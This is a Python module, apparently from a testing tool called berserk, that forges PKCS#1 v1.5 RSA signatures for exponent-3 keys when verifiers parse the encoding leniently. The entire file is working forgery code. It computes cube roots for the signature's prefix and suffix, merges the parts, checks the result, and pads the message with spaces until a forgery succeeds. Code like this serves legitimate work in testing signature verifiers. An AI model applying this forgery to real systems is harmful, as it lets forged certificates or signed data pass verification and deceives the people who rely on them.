# Author: berserk developers, (c) 2025
# Released under Gnu GPL v2.0, see LICENSE file for details

"""Forging of PKCS#1 v1.5 signatures for exponent 3 keys."""

import logging

from tlslite.utils.cryptomath import bytesToNumber, numberToByteArray, \
        secureHash

from .errors import FatalError, RetryableInfeasible, \
        WrongHashLength, InternalInvariantViolation
from .outcome import Success, Retryable, Fatal
from .templates import lookup
from .roots import cube_root_prefix, cube_root_suffix
from .middle import reconcile_middle


def _nonzero_span(part, size):
    """
    Return the byte range of ``part`` holding non zero bytes.

    ``part`` is right aligned in a ``size`` byte buffer; the range is
    counted from the least significant byte. None for an all zero part.
    """
    if len(part) > size:
        raise InternalInvariantViolation(
            "Partial result of {0} bytes doesn't fit in {1} bytes"
            .format(len(part), size))
    value = bytesToNumber(bytearray(part))
    if not value:
        return None
    low = ((value & -value).bit_length() - 1) // 8
    high = (value.bit_length() + 7) // 8
    return low, high


def merge_regions(size, *parts):
    """
    Combine partial results occupying disjoint bytes into one buffer.

    Parts are big endian and right aligned, so a part shorter than ``size``
    covers the least significant bytes.

    :param int size: size of the result in bytes
    :raises InternalInvariantViolation: when two parts have non zero bytes
        at the same position
    :rtype: bytearray
    """
    spans = []
    for part in parts:
        span = _nonzero_span(part, size)
        if span is None:
            continue
        for other in spans:
            if span[0] < other[1] and other[0] < span[1]:
                raise InternalInvariantViolation(
                    "Partial results overlap: bytes {0} and {1}"
                    .format(span, other))
        spans.append(span)

    result = bytearray(size)
    for part in parts:
        for i in range(1, len(part) + 1):
            result[-i] |= part[-i]
    return result


def check_forgery(signature, template, digest):
    """
    Check if the cube of ``signature`` has all the bytes ``template`` fixes.

    :param bytes signature: forged signature
    :param DigestInfoTemplate template: expected layout
    :param bytes digest: digest expected at the end of the cube
    :rtype: bool
    """
    cube = bytesToNumber(bytearray(signature)) ** 3
    if len(signature) != template.size or \
            cube.bit_length() > template.bit_len:
        return False
    encoded = numberToByteArray(cube, template.size)
    tail = bytes(template.suffix) + bytes(digest)
    if encoded[template.size - len(tail):] != tail:
        return False
    if encoded[:len(template.prefix)] != template.prefix:
        return False
    if template.middle:
        end = template.size - template.middle_offset
        if encoded[end - len(template.middle):end] != template.middle:
            return False
    return True


def sign_pkcs1v15(bit_len, hash_alg, hashed):
    """
    Forge a signature of ``hashed`` valid for any exponent 3 key of the
    given size, as long as the verifier parses BER lengths leniently.

    :param int bit_len: size of the public key modulus, 1024 or 2048
    :param hash_alg: hash used to create ``hashed``, only SHA-1 is supported
    :param bytes hashed: the message digest
    :return: signature of ``bit_len // 8`` bytes
    :rtype: bytearray
    :raises UnsupportedParameters: for unsupported hash or key size
    :raises WrongHashLength: when ``hashed`` has the wrong size for the hash
    :raises RetryableInfeasible: when a signature can't be made for this
        specific digest, change the message and retry
    :raises InternalInvariantViolation: partial results overlap
    """
    template = lookup(hash_alg, bit_len)

    if len(hashed) != template.hash_len:
        raise WrongHashLength("Expected {0} byte digest, got {1} bytes"
                              .format(template.hash_len, len(hashed)))

    # new buffer, the template bytes stay untouched
    target_suffix = bytearray(template.suffix)
    target_suffix += hashed

    sig_lo = cube_root_suffix(target_suffix)
    sig_hi = cube_root_prefix(template.prefix, template.bit_len)

    sig_mid = bytearray()
    if template.middle:
        sig_mid = reconcile_middle(sig_hi, sig_lo, template.middle,
                                   template.middle_offset)

    signature = merge_regions(template.size, sig_hi, sig_lo, sig_mid)

    if not check_forgery(signature, template, hashed):
        raise RetryableInfeasible("Combined parts don't form the expected "
                                  "encoding")
    return signature


def forge(hash_alg, bit_len, digest):
    """
    Forge a signature, reporting the result as a value.

    Same as :py:func:`sign_pkcs1v15` but with the arguments in the
    ``(hash, key size, digest)`` order and without raising exceptions for
    any of the expected failures.

    :rtype: ~berserk.outcome.Outcome
    :return: :py:class:`~berserk.outcome.Success`,
        :py:class:`~berserk.outcome.Retryable` or
        :py:class:`~berserk.outcome.Fatal`
    """
    try:
        signature = sign_pkcs1v15(bit_len, hash_alg, digest)
    except RetryableInfeasible as exc:
        logging.info("Can't forge signature for this digest: %s", exc)
        return Retryable(str(exc))
    except InternalInvariantViolation as exc:
        logging.error("Internal error while forging signature: %s", exc)
        return Fatal(str(exc), type(exc))
    except FatalError as exc:
        return Fatal(str(exc), type(exc))
    return Success(signature)


def sign_message(bit_len, message, hash_alg="sha1"):
    """
    Hash ``message`` and forge a signature of it.

    :rtype: bytearray
    :raises BerserkError: as :py:func:`sign_pkcs1v15`
    """
    template = lookup(hash_alg, bit_len)
    return sign_pkcs1v15(bit_len, hash_alg,
                         secureHash(message, template.hash_name))


def forge_message(bit_len, message, hash_alg="sha1", attempts=16):
    """
    Forge a signature of ``message`` or of a close variant of it.

    When forging isn't possible for the digest of ``message``, spaces are
    appended to it one at a time until it is, or until ``attempts``
    variants were tried.

    :return: the outcome and the message it applies to
    :rtype: tuple
    """
    if attempts < 1:
        raise ValueError("At least one attempt is needed")
    message = bytes(message)
    try:
        name = lookup(hash_alg, bit_len).hash_name
    except FatalError as exc:
        return Fatal(str(exc), type(exc)), message

    for i in range(attempts):
        candidate = message + b" " * i
        outcome = forge(name, bit_len, secureHash(candidate, name))
        if not outcome.retryable:
            break
        logging.debug("Message variant %d not forgeable", i)
    return outcome, candidate
